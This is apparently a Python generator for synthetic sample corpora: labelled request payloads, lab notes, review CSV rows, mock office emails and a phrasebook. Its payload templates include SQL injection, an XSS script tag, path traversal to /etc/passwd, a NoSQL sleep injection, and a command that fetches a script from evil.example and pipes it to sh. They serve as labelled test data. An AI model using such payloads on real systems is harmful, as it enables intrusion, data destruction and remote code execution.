#!/usr/bin/env python3
"""Writes the engine's bundled sample corpora (all text made up for this project from templates).

Deterministic: python3 make_samples.py [DIR] rewrites the same bytes. Each corpus directory gets an
INDEX file listing its files, because the engine reads them from its jar, which cannot be listed.
"""
import json
import os
import random
import sys

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(20261122)


def write(corpus, rel, text):
    path = os.path.join(OUT, corpus, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def index(corpus):
    root = os.path.join(OUT, corpus)
    files = []
    for d, _, names in os.walk(root):
        for n in names:
            if n != "INDEX":
                files.append(os.path.relpath(os.path.join(d, n), root).replace(os.sep, "/"))
    write(corpus, "INDEX", "".join(f + "\n" for f in sorted(files)))


def payloads():
    items = ["invoice", "order", "profile", "report", "ticket", "basket", "session", "comment"]
    verbs = ["show", "list", "update", "archive", "export", "search"]
    benign_tpl = [
        "GET /api/{i}/{n}?view=summary",
        "POST /api/{i} {{\"note\": \"please {v} the {i} from last week\"}}",
        "search?q={v}+{i}+{n}&page=2",
        "PUT /api/{i}/{n} {{\"status\": \"done\"}}",
        "{v} my {i} number {n}, thanks",
        "GET /static/{i}-{n}.css",
    ]
    attack_tpl = [
        "GET /api/{i}?id={n}' OR '1'='1",
        "search?q=<script>alert({n})</script>",
        "GET /../../etc/passwd%00{i}",
        "POST /api/{i} {{\"name\": \"x; DROP TABLE {i}s; --\"}}",
        "GET /api/{i}?cmd=$(curl evil.example/{n}.sh|sh)",
        "{{\"$where\": \"this.{i} == {n} || sleep(5000)\"}}",
    ]
    lines = []
    for k in range(240):
        attack = k % 4 == 0
        tpl = rnd.choice(attack_tpl if attack else benign_tpl)
        text = tpl.format(i=rnd.choice(items), n=rnd.randint(1, 9999), v=rnd.choice(verbs))
        lines.append(json.dumps({"id": "p%03d" % (k + 1), "text": text, "label": "attack" if attack else "benign"}))
    write("payloads", "payloads.jsonl", "\n".join(lines) + "\n")


def notes():
    subjects = ["the pump", "sample B", "the calibration run", "the control arm", "batch 7", "the sensor array"]
    events = ["drifted upward after lunch", "held steady for the whole shift", "needed a restart at noon",
              "matched yesterday's reading", "showed a short spike near the end", "was replaced before the test"]
    for k in range(24):
        body = "\n".join("%s %s." % (rnd.choice(subjects).capitalize(), rnd.choice(events)) for _ in range(rnd.randint(2, 5)))
        write("notes", "note-%02d.txt" % (k + 1), body + "\n")


def reviews():
    good = ["works as described", "arrived early", "solid build", "easy to set up", "great value"]
    bad = ["stopped working after a week", "missing parts", "flimsy", "hard to configure", "overpriced"]
    rows = ["id,rating,text"]
    for k in range(60):
        rating = rnd.randint(1, 5)
        words = rnd.sample(good if rating >= 3 else bad, 2)
        text = "%s, %s" % (words[0].capitalize(), words[1])
        if k % 7 == 0:
            text += '; said "fine", mostly'
        elif k % 5 == 0:
            text += "\nagain, a day later"
        # RFC 4180: quote every field holding a comma, quote or line break; double inner quotes
        text = '"%s"' % text.replace('"', '""')
        rows.append("r%02d,%d,%s" % (k + 1, rating, text))
    write("reviews", "reviews.csv", "\n".join(rows) + "\n")


def office_mail():
    people = ["ann.lee", "bo.chen", "cy.diaz", "di.evans"]
    topics = ["budget review", "Q3 schedule", "vendor contract", "team offsite", "server move"]
    for k in range(30):
        frm, to = rnd.sample(people, 2)
        folder = rnd.choice(["inbox", "sent_items"])
        topic = rnd.choice(topics)
        body = "Hi %s,\n\nCan we talk about the %s %s?\n\nThanks,\n%s\n" % (
            to.split(".")[0].capitalize(), topic, rnd.choice(["tomorrow", "on Friday", "next week"]), frm.split(".")[0].capitalize())
        msg = ("Message-ID: <%d.office@example.test>\nDate: Mon, %d Oct 2001 09:%02d:00 -0700\nFrom: %s@example.test\n"
               "To: %s@example.test\nSubject: %s\n\n%s") % (k + 1, 1 + k % 28, k % 60, frm, to, topic.capitalize(), body)
        write("office-mail", "%s/%s/%d." % (frm.replace(".", "-"), folder, k + 1), msg)


def phrasebook():
    base = [
        ("The train leaves at nine.", "Le train part à neuf heures.", "Der Zug fährt um neun ab."),
        ("Where is the station?", "Où est la gare ?", "Wo ist der Bahnhof?"),
        ("I would like a coffee.", "Je voudrais un café.", "Ich hätte gern einen Kaffee."),
        ("The museum is closed today.", "Le musée est fermé aujourd'hui.", "Das Museum ist heute geschlossen."),
        ("How much does it cost?", "Combien ça coûte ?", "Wie viel kostet das?"),
        ("It is raining again.", "Il pleut encore.", "Es regnet wieder."),
        ("We are late.", "Nous sommes en retard.", "Wir sind spät dran."),
        ("Thank you for your help.", "Merci pour votre aide.", "Danke für Ihre Hilfe."),
    ]
    rows = [base[k % len(base)] for k in range(40)]
    rows = [(e if k < 8 else "%s (%d)" % (e, k), f if k < 8 else "%s (%d)" % (f, k), d if k < 8 else "%s (%d)" % (d, k))
            for k, (e, f, d) in enumerate(rows)]
    for i, lang in enumerate(["eng_Latn", "fra_Latn", "deu_Latn"]):
        write("phrasebook", "devtest/%s.devtest" % lang, "".join(r[i] + "\n" for r in rows))


for make, name in ((payloads, "payloads"), (notes, "notes"), (reviews, "reviews"), (office_mail, "office-mail"),
                   (phrasebook, "phrasebook")):
    make()
    index(name)
